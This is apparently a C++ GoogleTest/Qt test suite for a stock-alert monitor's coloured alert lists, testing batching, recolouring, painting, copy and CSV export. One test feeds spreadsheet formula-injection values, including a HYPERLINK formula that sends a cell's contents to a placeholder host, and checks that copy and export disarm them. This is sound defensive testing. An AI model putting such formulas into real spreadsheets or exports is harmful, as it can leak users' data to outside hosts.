// The list model and the coloured view: rows from the intakes, batching, recolouring, and the
// colours as painted pixels.
#include "alerts/alert_lists.h"

#include <gtest/gtest.h>

#include <QAbstractItemModelTester>
#include <QAction>
#include <QApplication>
#include <QClipboard>
#include <QDir>
#include <QHeaderView>
#include <QImage>
#include <QProgressDialog>
#include <QScrollBar>
#include <QSignalSpy>
#include <QStyledItemDelegate>
#include <QTest>
#include <QTimer>

#include "alerts/alert_center.h"
#include "alerts/color_list_ctrl.h"
#include "tests/support/temp_dir.h"

namespace kestrune {
namespace {

class AlertListsTest : public ::testing::Test {
 protected:
  AlertListsTest() : table_(dir_.file("SymbolFilter.txt")), lists_(settings_, table_) {}

  void watch(std::vector<std::string> symbols) {
    std::vector<SymbolEntry> e;
    for (auto& s : symbols) e.push_back(makeSymbolEntry(s));
    table_.replaceSymbolFilters(e, "", settings_.symbolAlarmFile);
  }
  QString cell(AlertKind k, int row, int col) {
    auto* m = lists_.model(k);
    return m->data(m->index(row, col)).toString();
  }

  test::TempDir dir_;
  MonitorSettings settings_;
  SymbolFilterTable table_;
  AlertLists lists_;
};

TEST_F(AlertListsTest, LiveRowsArriveInOneBatchNewestOnTop) {
  AlertListModel* raw = lists_.model(AlertKind::Raw);
  QAbstractItemModelTester tester(raw, QAbstractItemModelTester::FailureReportingMode::Warning);
  QSignalSpy inserted(raw, &QAbstractItemModel::rowsInserted);
  std::vector<AlertDecision> batch = {lists_.takeRawAlert("IBM|7|093015|3200|X|45"),
                                      lists_.takeRawAlert("MSFT|7|093016|10|Y|2"),
                                      lists_.takeSeqAlert("AAPL|NYSE|093017|600|B")};
  lists_.apply(batch);
  EXPECT_EQ(inserted.count(), 1);
  ASSERT_EQ(raw->rowCount(), 2);
  EXPECT_EQ(cell(AlertKind::Raw, 0, 1), "MSFT");
  EXPECT_EQ(cell(AlertKind::Raw, 1, 0), "09:30:15");
  EXPECT_EQ(cell(AlertKind::Raw, 1, 3), "45");
  EXPECT_EQ(raw->list().code(1), Highlight);
  EXPECT_EQ(lists_.model(AlertKind::Seq)->list().code(0), Highlight);
  EXPECT_EQ(raw->headerData(2, Qt::Horizontal).toString(), "Count");
  EXPECT_EQ(lists_.model(AlertKind::Algo)->columnCount(), 6);

  // A single apply shows up by itself on the next turn of the event loop.
  lists_.apply(lists_.takeRawAlert("NEW|7|093020|1"));
  EXPECT_EQ(raw->rowCount(), 2);
  QCoreApplication::processEvents();
  EXPECT_EQ(raw->rowCount(), 3);
  EXPECT_EQ(cell(AlertKind::Raw, 0, 1), "NEW");

  lists_.clearAll();
  EXPECT_EQ(raw->rowCount(), 0);
}

// Rows built elsewhere go below the rows shown, oldest at the bottom, in one insertion; the rows
// shown stay on top in their order.
TEST_F(AlertListsTest, OlderRowsGoBelowTheShownOnes) {
  AlertListModel* raw = lists_.model(AlertKind::Raw);
  QAbstractItemModelTester tester(raw, QAbstractItemModelTester::FailureReportingMode::Warning);
  lists_.apply(lists_.takeRawAlert("NEW1|7|100000|1"));
  lists_.apply(lists_.takeRawAlert("NEW2|7|100001|1"));
  lists_.commitPending();
  AlertList older(AlertKind::Raw);
  AlertCells cells;
  for (const char* text : {"OLD1|7|090000|1", "OLD2|7|090001|5000"}) {
    const AlertDecision d = lists_.intake().replay(AlertKind::Raw, text);
    older.append(d.cells, d.code);
  }
  QSignalSpy inserted(raw, &QAbstractItemModel::rowsInserted);
  raw->appendOlderRows(std::move(older));
  EXPECT_TRUE(older.empty());
  ASSERT_EQ(inserted.count(), 1);
  EXPECT_EQ(inserted[0][1].toInt(), 2);
  EXPECT_EQ(inserted[0][2].toInt(), 3);
  ASSERT_EQ(raw->rowCount(), 4);
  const QStringList symbols{cell(AlertKind::Raw, 0, 1), cell(AlertKind::Raw, 1, 1),
                            cell(AlertKind::Raw, 2, 1), cell(AlertKind::Raw, 3, 1)};
  EXPECT_EQ(symbols, (QStringList{"NEW2", "NEW1", "OLD2", "OLD1"}));
  EXPECT_EQ(raw->list().code(2), Highlight);
  // Rows of another list are not taken.
  AlertList seq(AlertKind::Seq);
  seq.append(cells, Normal);
  raw->appendOlderRows(std::move(seq));
  EXPECT_EQ(raw->rowCount(), 4);
}

TEST_F(AlertListsTest, ReplayAndRecolour) {
  lists_.replayRawAlert("IBM|7|093015|3200|X|45\r");
  lists_.replayRawAlert("ibm|7|093016|0|X|1");
  lists_.replaySeqAlert("IBM|NYSE|093017|100|B");
  lists_.commitPending();
  AlertListModel* raw = lists_.model(AlertKind::Raw);
  ASSERT_EQ(raw->rowCount(), 2);
  EXPECT_EQ(cell(AlertKind::Raw, 1, 3), "45");  // no carriage return in the last cell
  EXPECT_EQ(raw->list().code(1), Highlight);

  // Threshold 0: every row with a count of 0 or more gets bit 0.
  settings_.quoteCountRawThresh = 0;
  lists_.recolorByThreshold(AlertKind::Raw, 2, 0);
  EXPECT_EQ(raw->list().code(0), Highlight);
  lists_.recolorByThreshold(AlertKind::Raw, 2, 5000);
  EXPECT_EQ(raw->list().code(0), Normal);
  EXPECT_EQ(raw->list().code(1), Normal);

  watch({"IBM"});
  settings_.useSymbolFilters = 1;
  settings_.listEliminate = 1;  // plays no part in recolouring
  settings_.quoteCountRawThresh = 3000;
  lists_.recolorBySymbolFilter();
  EXPECT_EQ(raw->list().code(1), HighSymf);
  EXPECT_EQ(raw->list().code(0), Normal);  // "ibm" is not "IBM"
  EXPECT_EQ(lists_.model(AlertKind::Seq)->list().code(0), SymFilter);

  // The new rules are in force for later records too.
  lists_.apply(lists_.takeRawAlert("MSFT|7|093018|1"));
  lists_.commitPending();
  EXPECT_EQ(raw->rowCount(), 2);  // eliminated

  // The recolouring reads the symbol, and the threshold recolouring the count, as at most 24
  // characters: a long symbol matches the watched name it starts with, and only the first 24 of
  // a count's 27 digits count there (0, not 600).
  settings_.listEliminate = 0;
  lists_.refreshRules();
  lists_.replaySeqAlert("ABCDEFGHIJKLMNOPQRSTUVWXYZ|NYSE|093019|000000000000000000000000600|B");
  lists_.commitPending();
  const AlertList& seq = lists_.model(AlertKind::Seq)->list();
  EXPECT_EQ(seq.code(0), Highlight);           // the intake itself reads all of it
  watch({"ABCDEFGHIJKLMNOPQRSTUVWX", "IBM"});  // in table order
  lists_.recolorBySymbolFilter();
  EXPECT_EQ(seq.code(0), HighSymf);
  lists_.recolorByThreshold(AlertKind::Seq, 3, 500);
  EXPECT_EQ(seq.code(0), SymFilter);
}

QColor pixelAt(const QImage& img, QPoint p) { return img.pixelColor(p); }

TEST_F(AlertListsTest, RowsArePaintedInTheirCodesColours) {
  CColorListCtrl rawCtrl, seqCtrl, algoCtrl;
  settings_.normalBk = rgbColor(10, 200, 30);
  settings_.normalFg = rgbColor(0, 0, 0);
  lists_.setupControls(&rawCtrl, &seqCtrl, &algoCtrl, QFont("Arial", 8));
  rawCtrl.resize(265, 300);
  EXPECT_EQ(rawCtrl.columnWidth(1), 60);
  EXPECT_EQ(rawCtrl.columnWidths(6), (std::vector<std::int32_t>{50, 60, 50, 50, 40, 0}));

  AlertListModel* raw = lists_.model(AlertKind::Raw);
  lists_.replayRawAlert("A|7|093015|1");     // row 3: code 0
  lists_.replayRawAlert("B|7|093015|9999");  // row 2: code 1
  lists_.replayRawAlert("C|7|093015|1");     // row 1: will be code 7
  lists_.replayRawAlert("D|7|093015|1");     // row 0: will be code 3
  lists_.commitPending();
  raw->setRowCode(1, static_cast<RowColor>(7));
  raw->setRowCode(0, HighSymf);
  rawCtrl.show();
  QCoreApplication::processEvents();

  QImage img = rawCtrl.viewport()->grab().toImage();
  auto rowPixel = [&](int row) {
    QRect r = rawCtrl.visualRect(raw->index(row, 3));
    return pixelAt(img, QPoint(r.left() + 3, r.center().y()));
  };
  EXPECT_EQ(rowPixel(3), QColor(10, 200, 30));
  EXPECT_EQ(rowPixel(2), QColor(255, 0, 0));
  EXPECT_EQ(rowPixel(1), QColor(10, 200, 30));  // an unexpected code paints NORMAL
  EXPECT_EQ(rowPixel(0), QColor(0, 255, 0));
  // The empty area below the last row is NORMAL's background.
  QRect last = rawCtrl.visualRect(raw->index(3, 0));
  EXPECT_EQ(pixelAt(img, QPoint(20, last.bottom() + 40)), QColor(10, 200, 30));

  // New NORMAL colours reach rows and empty area alike.
  settings_.normalBk = rgbColor(200, 200, 0);
  lists_.applyListColors();
  QCoreApplication::processEvents();
  img = rawCtrl.viewport()->grab().toImage();
  EXPECT_EQ(rowPixel(3), QColor(200, 200, 0));
  EXPECT_EQ(pixelAt(img, QPoint(20, last.bottom() + 40)), QColor(200, 200, 0));
}

TEST_F(AlertListsTest, ScrolledResizedAndRefontedListsRepaintCleanly) {
  CColorListCtrl rawCtrl;
  lists_.setupControls(&rawCtrl, nullptr, nullptr, QFont("Arial", 8));
  rawCtrl.resize(265, 200);
  for (int i = 0; i < 500; ++i) {
    lists_.replayRawAlert(
        (std::string("S") + std::to_string(i) + "|7|093015|" + (i % 2 ? "9999" : "1")).c_str());
  }
  lists_.commitPending();
  rawCtrl.show();
  QCoreApplication::processEvents();
  rawCtrl.verticalScrollBar()->setValue(rawCtrl.verticalScrollBar()->maximum() / 2);
  rawCtrl.setColumnWidth(0, 90);
  QCoreApplication::processEvents();
  QImage img = rawCtrl.viewport()->grab().toImage();
  AlertListModel* raw = rawCtrl.alertModel();
  int row = rawCtrl.rowAt(50);
  ASSERT_GE(row, 0);
  QRect r = rawCtrl.visualRect(raw->index(row, 2));
  QColor expected = raw->list().code(static_cast<std::size_t>(row)) == Highlight
                        ? QColor(255, 0, 0)
                        : QColor(255, 255, 255);
  EXPECT_EQ(img.pixelColor(r.left() + 3, r.center().y()), expected);

  // Cells keep their laid-out text only while text, font and width stay: after a narrower column
  // (symbols cut with "...") and then a larger font the list paints as a fresh one does, and as
  // the style itself would but for where a few glyphs fall within their pixel.
  const auto paintedAfresh = [&](bool styled) {
    CColorListCtrl fresh;
    fresh.setAlertModel(raw);
    fresh.setRowColors(rawCtrl.rowColors());
    fresh.setListFont(rawCtrl.font());
    fresh.setColumnWidths(rawCtrl.columnWidths(5));
    if (styled) fresh.setItemDelegate(new QStyledItemDelegate(&fresh));
    fresh.resize(rawCtrl.size());
    fresh.show();
    QCoreApplication::processEvents();
    fresh.verticalScrollBar()->setValue(rawCtrl.verticalScrollBar()->value());
    QCoreApplication::processEvents();
    return fresh.viewport()->grab().toImage();
  };
  rawCtrl.setColumnWidth(1, 24);
  QCoreApplication::processEvents();
  EXPECT_EQ(rawCtrl.viewport()->grab().toImage(), paintedAfresh(false));
  rawCtrl.setListFont(QFont("Arial", 10));
  QCoreApplication::processEvents();
  const QImage shown = rawCtrl.viewport()->grab().toImage();
  EXPECT_EQ(shown, paintedAfresh(false));
  const QImage styled = paintedAfresh(true);
  ASSERT_EQ(styled.size(), shown.size());
  int differing = 0;
  for (int y = 0; y < shown.height(); ++y) {
    for (int x = 0; x < shown.width(); ++x) differing += shown.pixel(x, y) != styled.pixel(x, y);
  }
  EXPECT_LT(differing, shown.width() * shown.height() / 50);
}

// The list as the form gets it from the alert subsystem, with its own tools: rows picked with
// click, Shift and Ctrl and copied as tab-separated text, the whole list exported as CSV, and a
// row's symbol added to the watched symbols.
class ListToolsTest : public ::testing::Test {
 protected:
  ListToolsTest() : center_(settings_, nullptr, dir_.file("SymbolFilter.txt")) {
    list_.reset(center_.createList(AlertCenter::kRawListId, nullptr));
    center_.listsReady(QFont("Arial", 8));
    list_->resize(265, 300);
    list_->chooseFile = [this](QWidget*, const QString&, const QString&, const QString&) {
      return chosen_;
    };
    list_->showMessage = [this](const QString&, const QString& text) { messages_ << text; };
    for (const char* record :
         {"IBM|7|093015|3200|X|45", "BRK\"A,1|7|093016|12|X|4", "MSFT|7|093017|1|Y|2"}) {
      center_.lists().replayRawAlert(record);
    }
    center_.lists().commitPending();
    list_->show();
  }

  void clickRow(int row, Qt::KeyboardModifiers modifiers = Qt::NoModifier) {
    const QRect r = list_->visualRect(list_->model()->index(row, 1));
    QTest::mouseClick(list_->viewport(), Qt::LeftButton, modifiers, r.center());
  }
  std::string fileText(const QString& path) { return test::readAll(path.toStdString()); }

  test::TempDir dir_;
  MonitorSettings settings_;
  AlertCenter center_;
  std::unique_ptr<CColorListCtrl> list_;
  QString chosen_;
  QStringList messages_;
};

TEST_F(ListToolsTest, SelectedRowsAreCopiedAsTabSeparatedTextUnderTheHeadings) {
  clickRow(0);
  clickRow(2, Qt::ShiftModifier);
  QTest::keyClick(list_.get(), Qt::Key_C, Qt::ControlModifier);
  EXPECT_EQ(QGuiApplication::clipboard()->text(),
            "Time\tSymbol\tCount\tTrades\tBBO\n"
            "09:30:17\tMSFT\t1\t2\tY\n"
            "09:30:16\tBRK\"A,1\t12\t4\tX\n"
            "09:30:15\tIBM\t3200\t45\tX\n");
  clickRow(1, Qt::ControlModifier);  // out of the selection again
  QGuiApplication::clipboard()->clear();
  list_->copyAction()->trigger();
  EXPECT_EQ(QGuiApplication::clipboard()->text(),
            "Time\tSymbol\tCount\tTrades\tBBO\n"
            "09:30:17\tMSFT\t1\t2\tY\n"
            "09:30:15\tIBM\t3200\t45\tX\n");

  // A selected row stays readable: its text stands out from what is drawn behind it.
  const QImage img = list_->viewport()->grab().toImage();
  const QRect cell = list_->visualRect(list_->model()->index(2, 2));
  QColor back = img.pixelColor(cell.left() + 2, cell.top() + 2);
  int darkest = 255 * 3, lightest = 0;
  for (int x = cell.left(); x <= cell.right(); ++x) {
    const QColor c = img.pixelColor(x, cell.center().y());
    darkest = std::min(darkest, c.red() + c.green() + c.blue());
    lightest = std::max(lightest, c.red() + c.green() + c.blue());
  }
  const int backSum = back.red() + back.green() + back.blue();
  EXPECT_GT(std::max(backSum - darkest, lightest - backSum), 300) << back.name().toStdString();
}

TEST_F(ListToolsTest, ExportWritesEveryRowNewestFirstWithQuotingAndReplacesOnlyWhenDone) {
  chosen_ = QString::fromStdString(dir_.file("raw.csv"));
  test::writeAll(chosen_.toStdString(), "older export");
  list_->exportAction()->trigger();
  EXPECT_EQ(fileText(chosen_),
            "Time,Symbol,Count,Trades,BBO\r\n"
            "09:30:17,MSFT,1,2,Y\r\n"
            "09:30:16,\"BRK\"\"A,1\",12,4,X\r\n"
            "09:30:15,IBM,3200,45,X\r\n");
  EXPECT_TRUE(messages_.isEmpty());

  // A long export stopped from its progress dialog, and one whose list is emptied meanwhile,
  // leave the file as it was and nothing beside it.
  for (int i = 0; i < 200000; ++i) center_.lists().replayRawAlert("S|7|093020|1|X|1");
  center_.lists().commitPending();
  test::writeAll(chosen_.toStdString(), "older export");
  list_->exportProgressDelayMs = 0;
  const std::function<void()> interruptions[] = {
      [this] {
        for (auto* d : list_->findChildren<QProgressDialog*>()) d->cancel();
      },
      [this] { center_.lists().clearAll(); }};
  for (const auto& interrupt : interruptions) {
    QTimer::singleShot(0, list_.get(), interrupt);
    EXPECT_EQ(list_->exportCsvTo(chosen_), SaveOutcome::Cancelled);
    EXPECT_EQ(fileText(chosen_), "older export");
    EXPECT_EQ(QDir(QString::fromStdString(dir_.path())).entryList(QDir::Files),
              QStringList{"raw.csv"});
  }
  ASSERT_EQ(messages_.size(), 1);
  EXPECT_TRUE(messages_[0].startsWith("The list was emptied during the export"));

  chosen_ = QString::fromStdString(dir_.file("missing/raw.csv"));
  EXPECT_EQ(list_->exportCsv(), SaveOutcome::Failed);
  EXPECT_EQ(messages_.size(), 2);
}

// Server texts that a spreadsheet would run as formulas reach it as plain text; the time and
// the counts, numbers of our own, are never touched, nor is a text that merely holds a sign.
TEST_F(ListToolsTest, CopyAndExportDisarmFormulaTextsOnly) {
  center_.lists().clearAll();
  for (const char* record : {"=HYPERLINK(\"http://x.y/\"&B1|7|093020|1|X|2",
                             "+1|7|093021|-5|-0.5|-3", "@SUM(1+1)*2|7|093022|1|=1|2",
                             "\tTAB|7|093023|1|X|2", "\rCR|7|093024|1|X|2", "A-B|7|093025|1|X|2"}) {
    center_.lists().replayRawAlert(record);
  }
  center_.lists().commitPending();
  list_->selectAll();
  list_->copyAction()->trigger();
  EXPECT_EQ(QGuiApplication::clipboard()->text().toStdString(),
            "Time\tSymbol\tCount\tTrades\tBBO\n"
            "09:30:25\tA-B\t1\t2\tX\n"
            "09:30:24\t' CR\t1\t2\tX\n"
            "09:30:23\t' TAB\t1\t2\tX\n"
            "09:30:22\t'@SUM(1+1)*2\t1\t2\t'=1\n"
            "09:30:21\t'+1\t-5\t-3\t'-0.5\n"
            "09:30:20\t'=HYPERLINK(\"http://x.y/\"&B1\t1\t2\tX\n");
  chosen_ = QString::fromStdString(dir_.file("raw.csv"));
  EXPECT_EQ(list_->exportCsvTo(chosen_), SaveOutcome::Saved);
  EXPECT_EQ(fileText(chosen_),
            "Time,Symbol,Count,Trades,BBO\r\n"
            "09:30:25,A-B,1,2,X\r\n"
            "09:30:24,\"'\rCR\",1,2,X\r\n"
            "09:30:23,'\tTAB,1,2,X\r\n"
            "09:30:22,'@SUM(1+1)*2,1,2,'=1\r\n"
            "09:30:21,'+1,-5,-3,'-0.5\r\n"
            "09:30:20,\"'=HYPERLINK(\"\"http://x.y/\"\"&B1\",1,2,X\r\n");
}

TEST_F(ListToolsTest, AddSymbolToFiltersDoesWhatTheDialogsOkDoes) {
  settings_.useSymbolFilters = 1;
  std::vector<SymbolEntry> start = {makeSymbolEntry("ZZZ")};
  center_.symbolFilters().replaceSymbolFilters(start, "", settings_.symbolAlarmFile);
  center_.lists().refreshRules();
  clickRow(2);  // IBM, over the threshold
  list_->addSymbolAction()->trigger();
  EXPECT_EQ(fileText(QString::fromStdString(dir_.file("SymbolFilter.txt"))), "IBM\nZZZ\n");
  EXPECT_EQ(list_->alertModel()->list().code(2), HighSymf);
  EXPECT_EQ(list_->alertModel()->list().code(0), Normal);
  EXPECT_EQ(settings_.useSymbolFilters, 1);

  list_->addSymbolAction()->trigger();  // already watched: the dialog's message, no change
  EXPECT_EQ(messages_, QStringList{"The Symbol Already Exists In List!"});
  EXPECT_EQ(center_.symbolFilters().entries().size(), 2u);
  clickRow(1);
  list_->addSymbolAction()->trigger();  // punctuation is a symbol character: kept whole
  EXPECT_NE(center_.symbolFilters().findSymbol("BRK\"A,1"), -1);
  EXPECT_EQ(list_->alertModel()->list().code(1), SymFilter);
}

}  // namespace
}  // namespace kestrune
